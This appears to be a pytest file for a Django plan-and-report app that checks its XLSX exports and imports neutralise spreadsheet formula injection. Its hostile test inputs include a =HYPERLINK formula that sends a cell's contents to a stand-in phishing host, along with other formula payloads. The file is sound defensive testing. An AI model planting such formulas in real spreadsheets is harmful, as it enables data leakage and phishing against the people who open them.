"""Formula injection (issue 19, item 7): every XLSX the app writes keeps a text that a spreadsheet
would take for a formula (=, +, -, @, tab, CR first) as text, so it neither runs when the file is
opened nor stops the file importing back; numbers stay numbers. Checked in the written file
itself (no <f> element), through the download pages, and by a round trip of the task appendix
through its upload pages."""

import re
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from agencies.models import User
from cchc.spreadsheet_writing import workbook_bytes
from plans.appendix import HEADERS
from plans.models import Plan, PlanArea, ReportingPeriod
from reports import documents
from reports.models import Report

ROOT = Path(__file__).resolve().parent.parent
LINK = '=HYPERLINK("http://phishing.example/"&B3,"Xem chi tiết")'
HOSTILE = [
    LINK,
    "=1+1",
    "+84 912 345 678",
    "-2+3",
    "- Rà soát văn bản",
    "@SUM(A1:A2)",
    "\tthụt đầu dòng",
    "\rxuống dòng",
]


def sheet_xml(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return {
            name: archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        }


def formulas(content: bytes) -> list[str]:
    return [
        f"{name}: {cell}"
        for name, xml in sheet_xml(content).items()
        for cell in re.findall(r"<c [^>]*>(?:(?!</c>).)*<f[ >].*?</c>", xml)
    ]


def test_a_text_read_as_a_formula_is_written_as_text_and_numbers_stay_numbers():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HOSTILE)
    sheet.append([-5, -2.5, 0, 3, "Rà soát văn bản", "a=b", "email@example.vn", "—"])
    content = workbook_bytes(workbook)
    assert formulas(content) == []
    xml = sheet_xml(content)["xl/worksheets/sheet1.xml"]
    for column in "ABCDEFGH":
        assert re.search(rf'<c r="{column}1" s="\d+" t="inlineStr">', xml), column
    back = load_workbook(BytesIO(content))
    first, second = list(back.active.iter_rows(values_only=False))
    # (an XML reader turns a carriage return into a line feed: the text is still text)
    assert [c.value for c in first] == [t.replace("\r", "\n") for t in HOSTILE]
    assert all(c.data_type == "s" and c.quotePrefix for c in first)
    # numbers, a negative one included, are numbers; other texts are not touched
    assert [c.value for c in second][:4] == [-5, -2.5, 0, 3]
    assert [c.data_type for c in second][:4] == ["n"] * 4
    assert re.search(r'<c r="A2" t="n"><v>-5</v></c>', xml)
    assert not any(c.quotePrefix for c in second)


def test_the_code_writes_every_workbook_through_the_one_helper():
    """A new export that saved a workbook itself would write formulas again."""
    writers = []
    for path in sorted(ROOT.glob("*/**/*.py")):
        if path.relative_to(ROOT).parts[0] in (".venv", "tests", "build"):
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(", source):
            writers.append(path.relative_to(ROOT).as_posix())
            assert "workbook_bytes(" in source, path
            assert not re.search(r"\b\w*(book|wb)\w*\.save\(", source), path
    assert {"plans/appendix.py", "reports/spreadsheets.py"} <= set(writers), writers


@pytest.fixture
def reviewer():
    return User.objects.get(username="nv.reviewer")


@pytest.mark.django_db
def test_a_report_workbook_keeps_hostile_texts_as_text_through_the_download(client, reviewer):
    period = ReportingPeriod.objects.get(plan__code="hung-yen-2023", kind="h1")
    data = documents.province_report_data(period)
    area = next(a for a in data["areas"] if a["targets"] and (a["done"] or a["overdue"] or a["in_progress"]))
    area["targets"][0].update(text=LINK, value="-2.5")
    task = (area["done"] or area["overdue"] or area["in_progress"])[0]
    task.update(text="+84 912 345 678", leads="@Sở Tư pháp")
    report = Report.objects.create(period=period, data=data, render_status="done")
    client.force_login(reviewer)
    response = client.get(reverse("reports:report_xlsx", args=[report.pk]))
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    assert formulas(content) == []
    book = load_workbook(BytesIO(content))
    targets = [r for r in book["Chỉ tiêu"].iter_rows(min_row=4, values_only=True) if r[2] == LINK]
    assert len(targets) == 1 and targets[0][5] == -2.5  # a figure is still a number
    tasks = [r for r in book["Nhiệm vụ"].iter_rows(min_row=4, values_only=True) if r[1] == "+84 912 345 678"]
    assert len(tasks) == 1 and tasks[0][2] == "@Sở Tư pháp"


def typed_as_text(rows) -> bytes:
    """An appendix as Excel saves it when a cell's text starts with "=" typed after an
    apostrophe: a text cell (openpyxl alone would make it a formula)."""
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    out = BytesIO()
    workbook.save(out)
    return out.getvalue()


def upload(client, plan, content: bytes):
    file = BytesIO(content)
    file.name = "phu-luc.xlsx"
    response = client.post(reverse("plans:appendix_upload", args=[plan.pk]), {"tep": file})
    assert response.status_code == 302, response.content.decode()[:3000]
    return client.post(response.url)


@pytest.mark.django_db
def test_a_formula_like_task_text_imports_exports_as_text_and_imports_back_unchanged(client, reviewer):
    source = Plan.objects.get(code="hai-duong-2024")
    plan = Plan.objects.create(
        code="hd-2025-cong-thuc",
        title="Kế hoạch CCHC năm 2025",
        issuer=source.issuer,
        year=2025,
        status="draft",
    )
    area = source.areas.order_by("position").first()
    PlanArea.objects.create(plan=plan, area=area.area, code=area.code, title=area.title, position=1)
    client.force_login(reviewer)
    texts = [LINK, "+84 912 345 678 (đường dây nóng)", "-2+3 đơn vị", "@Sở Tư pháp rà soát"]
    rows = [HEADERS, ["I", area.title]] + [
        [str(i), text, "Sở Tư pháp", "", "Quý II/2025", "=SUM(1;2) báo cáo" if i == 1 else ""]
        for i, text in enumerate(texts, start=1)
    ]
    assert upload(client, plan, typed_as_text(rows)).status_code == 302
    stored = list(plan.tasks.order_by("position").values_list("text", "product"))
    assert stored == [(LINK, "=SUM(1;2) báo cáo")] + [(t, "") for t in texts[1:]]

    response = client.get(reverse("plans:appendix_download", args=[plan.pk]))
    assert response.status_code == 200
    exported = b"".join(response.streaming_content)
    assert formulas(exported) == []
    # below the title block (3 rows and a blank), the header (row 5) and the area's heading (row 6)
    cells = [row[1] for row in load_workbook(BytesIO(exported)).active.iter_rows(min_row=7, values_only=True)]
    assert cells == texts

    # the export goes back in as it came out: every task the same, nothing changed
    assert upload(client, plan, exported).status_code == 302
    assert list(plan.tasks.order_by("position").values_list("text", "product")) == stored
    assert plan.tasks.count() == len(texts)
